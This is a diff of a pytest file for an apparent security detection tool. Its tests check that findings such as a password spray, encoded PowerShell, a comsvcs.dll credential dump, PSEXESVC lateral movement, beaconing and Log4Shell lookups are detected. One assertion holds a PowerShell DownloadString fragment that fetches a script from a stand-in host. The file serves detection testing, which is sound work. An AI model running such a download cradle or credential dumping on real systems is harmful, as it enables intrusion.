@@ -44,22 +44,23 @@ def test_report_asks_nobody(made: Path) -> None:
 
 
 def test_intrusion_is_found(made: Path) -> None:
-    found = findings(made / "data").set_index("finding")["first"].groupby(level=0).first().to_dict()
-    assert found["password spray"] == "203.0.113.66"
-    assert "DownloadString('http://cdn-update.example/win/agent.ps1')" in found["decoded text"]
-    assert "198.51.100.23" in found["indicators in it"]
-    assert "comsvcs.dll" in found["credential dump"]
-    assert found["lateral movement: service"] == "PSEXESVC"
-    assert found["beacon"].startswith("ws07.corp.example to 198.51.100.23 every 30")
-    assert found["log cleared"] == "fs01.corp.example"
+    found = findings(made / "data").drop_duplicates(["query", "finding"]).set_index("query")["first"]
+    assert found["entra.password_spray"] == "203.0.113.66"
+    _command, hidden, indicators = found["windows.encoded_powershell"]
+    assert "DownloadString('http://cdn-update.example/win/agent.ps1')" in hidden
+    assert "198.51.100.23" in indicators
+    assert "comsvcs.dll" in found["hunt.credential_dumping"]
+    assert found["windows.service_installs"] == "PSEXESVC"
+    assert found["device.beacons"] == "sync.telemetry-cdn.example"
+    assert found["windows.log_clearing"] == "fs01.corp.example"
 
 
 @pytest.mark.shared
 @pytest.mark.parametrize(
     ("name", "expected"),
     [
-        ("empire_dcom_shellwindows_stager", ("encoded PowerShell", "decoded text", "indicators in it", "lateral")),
-        ("purplesharp_ad_playbook_I", ("lateral movement: process of WMI, DCOM or a service",)),
+        ("empire_dcom_shellwindows_stager", ("encoded_powershell", "they hide", "indicators", "remote_execution")),
+        ("purplesharp_ad_playbook_I", ("device.remote_execution",)),
     ],
 )
 def test_real_telemetry(name: str, expected: tuple[str, ...], shared: Path, tmp_path: Path) -> None:
@@ -69,20 +70,20 @@ def test_real_telemetry(name: str, expected: tuple[str, ...], shared: Path, tmp_
 
 
 ATTACKS = {
-    "cmd_wevtutil_modify_security_eventlog_path": "event log moved or cleared",
-    "ec2_proxy_s3_exfiltration": "storage read by a role",
-    "metasploit_logonpasswords_lsass_memory_dump": "credential access: lsass read",
-    "syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference": "encoded shell command",
-    "syslog_sysmon_log4shell_cve2021_44228_jndi_reference": "shell below a service",
-    "sysmon_log4shell_cve2021_44228_java_serialized_object": "encoded PowerShell",
-    "vminsights_vmconnection_log4shell_cve2021_44228_jndi_reference": "directory asked by java",
+    "cmd_wevtutil_modify_security_eventlog_path": {"device.log_tampering"},
+    "ec2_proxy_s3_exfiltration": {"aws.role_use"},
+    "metasploit_logonpasswords_lsass_memory_dump": {"hunt.lsass_access", "windows.service_installs"},
+    "syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference": {"linux.encoded_commands"},
+    "syslog_sysmon_log4shell_cve2021_44228_jndi_reference": {"hunt.web_server_shells", "device.jndi_lookups"},
+    "sysmon_log4shell_cve2021_44228_java_serialized_object": {"device.encoded_powershell", "device.jndi_lookups"},
+    "vminsights_vmconnection_log4shell_cve2021_44228_jndi_reference": {"vm.jndi_lookups", "vm.shell_connections"},
 }
 
 
 @pytest.mark.shared
-@pytest.mark.parametrize(("name", "finding"), ATTACKS.items())
-def test_every_set_gives_its_attack_away(name: str, finding: str, shared: Path) -> None:
-    assert finding in findings(shared / f"data/security-datasets/{name}.zip")["finding"].tolist()
+@pytest.mark.parametrize(("name", "expected"), ATTACKS.items())
+def test_every_set_gives_its_attack_away(name: str, expected: set[str], shared: Path) -> None:
+    assert expected <= set(findings(shared / f"data/security-datasets/{name}.zip")["query"])
 
 
 def test_a_path_that_is_not_there_is_one_message(tmp_path: Path) -> None:
